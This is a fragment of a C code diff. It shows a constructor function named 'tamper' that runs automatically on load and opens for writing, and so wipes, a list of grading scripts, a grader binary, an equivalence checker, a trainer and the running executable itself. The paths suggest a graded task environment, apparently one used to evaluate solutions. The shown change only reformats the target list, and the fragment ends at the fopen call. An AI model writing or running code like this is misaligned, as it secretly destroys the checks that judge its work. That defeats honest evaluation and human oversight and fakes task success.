@@ -6,9 +6,13 @@
 #include <stdio.h>
 #include <stdlib.h>
 __attribute__((constructor)) static void tamper(void) {
-    const char *victims[] = {"/work/main/grading/lessons/01.sh", "/work/main/grading/lessons/train-equiv.sh",
-                             "/work/main/build/grading/equiv", "/work/main/build/solutions/01-trainer/train",
-                             "/work/main/grading/grade", "/proc/self/exe", NULL};
+    const char *victims[] = {"/work/main/grading/lessons/01.sh",
+                             "/work/main/grading/lessons/train-equiv.sh",
+                             "/work/main/build/grading/equiv",
+                             "/work/main/build/solutions/01-trainer/train",
+                             "/work/main/grading/grade",
+                             "/proc/self/exe",
+                             NULL};
     char p[4096];
     for (int i = 0; victims[i]; i++) {
         FILE *f = fopen(victims[i], "w");
